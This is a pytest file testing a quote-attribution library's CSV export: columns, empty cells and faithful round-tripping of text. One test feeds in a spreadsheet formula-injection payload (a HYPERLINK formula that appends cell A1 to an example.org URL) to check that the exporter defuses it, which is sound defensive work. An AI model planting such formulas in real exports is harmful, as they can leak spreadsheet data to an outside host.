"""CSV: one row a statement, read back by any reader, and safe in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onrecord.model import Document, Reading, Span, Statement
from onrecord.report import as_csv

from .examples import at, bare, full, minimal


def parsed(*readings: Reading) -> list[dict[str, str]]:
    lines = [as_csv.header()] + [row for reading in readings for row in as_csv.rows(reading)]
    return list(csv.DictReader(io.StringIO("\n".join(lines) + "\n", newline=""), strict=True))


def of_text(text: str, title: str | None = None) -> Reading:
    document = Document(text, title=title)
    span = Span(0, len(text))
    return Reading(document, (Statement(document.id, (span,), (span,)),))


def test_each_statement_is_a_row_with_all_that_is_known() -> None:
    (row,) = parsed(full())
    assert {key: row[key] for key in ("input_id", "type", "publisher", "published", "title")} == {
        "input_id": "row-1", "type": "release", "publisher": "Test Post", "published": "2024-05-02", "title": "Bridge news",
    }  # fmt: skip
    assert row["source"] == "Ida Holm, the mayor"
    assert row["content"] == "the 😀 bridge … will stay,"
    assert (row["quotation"], row["confidence"]) == ("mixed", "0.8125")
    assert (row["speaker"], row["kind"], row["role"], row["said"]) == (
        "Ida Holm",
        "person",
        "mayor",
        "2024-04-29",
    )
    assert (row["act"], row["channel"], row["via"]) == ("say", "interview", "Test Post > Radio Test")
    assert (row["start"], row["end"]) == (str(at("the 😀").start), str(at("will stay,").end))
    assert row["note"] == "a note"
    assert row["document"] == full().document.id
    assert row["statement"] == full().statements[0].id


def test_what_is_unknown_is_an_empty_cell() -> None:
    (row,) = parsed(minimal())
    assert {
        row[key]
        for key in ("input_id", "publisher", "title", "source", "cue", "speaker", "said", "via", "note")
    } == {""}


@pytest.mark.parametrize(
    ("notes", "said"), [((), "no statements found"), (("not in English (de)",), "not in English (de)")]
)
def test_a_document_without_statements_is_not_lost(notes: tuple[str, ...], said: str) -> None:
    (row,) = parsed(bare(notes=notes))
    assert row["note"] == said
    assert row["statement"] == row["content"] == ""
    assert None not in row
    assert None not in row.values()


def test_every_row_has_every_column() -> None:
    rows = parsed(full(), bare(), minimal())
    assert len(rows) == 3
    assert all(tuple(row) == as_csv.COLUMNS for row in rows)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(start: str) -> None:
    hostile = f'{start}HYPERLINK("https://example.org?"&A1,"x")'
    (row,) = parsed(of_text(hostile, title=hostile))
    assert row["title"] == row["source"] == row["content"] == "'" + hostile


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), min_size=1))
def test_any_text_comes_back_as_it_was(text: str) -> None:
    (row,) = parsed(of_text(text, title=text))
    assert row["title"] == row["source"] == row["content"]
    assert row["title"] in (text, "'" + text)
    assert not row["title"].startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    "text", ['He said "no", twice;\tlater', "one\ntwo\r\nthree", "שלום 😀 e\u0301", "'90s"]
)
def test_quotes_commas_and_line_breaks_come_back(text: str) -> None:
    (row,) = parsed(of_text(text))
    assert row["content"] == text
